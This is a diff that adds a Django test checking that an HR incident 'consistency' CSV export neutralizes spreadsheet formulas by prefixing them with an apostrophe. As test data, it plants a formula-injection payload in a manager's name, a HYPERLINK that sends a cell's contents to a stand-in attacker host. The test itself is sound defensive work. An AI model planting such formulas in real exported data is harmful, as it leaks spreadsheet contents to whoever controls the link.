@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 from datetime import timedelta
 
@@ -229,3 +231,21 @@ def test_retention_purges_closed_evidence_but_not_under_legal_hold(
     assert Evidence.objects.filter(incident=kept, purged_at__isnull=True).exists()
     entry = AuditEntry.objects.get(action="incident.evidence_purged")
     assert entry.target_id == str(gone.pk) and entry.data["items"] == 2
+
+
+def test_the_consistency_export_neutralizes_formulas_from_hr_imports(
+        client_for, hr, org, employee, matrix):
+    from chorus.people.models import Department
+
+    department = employee.person.department
+    Department.objects.filter(pk=department.pk).update(name="=1+1")
+    manager = employee.person.manager
+    manager.full_name = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
+    manager.save(update_fields=["full_name"])
+    decided = ready_for_decision(make_incident(org=org, hr=hr, subject=employee.person), hr=hr)
+    S.incident_decide(incident=decided, actor=hr, outcome="written_warning")
+
+    export = client_for(hr).get(reverse("incidents:consistency-csv"))
+
+    rows = list(csv.reader(io.StringIO(export.content.decode(), newline="")))
+    assert rows[1][4:6] == ["'=1+1", "'" + manager.full_name]
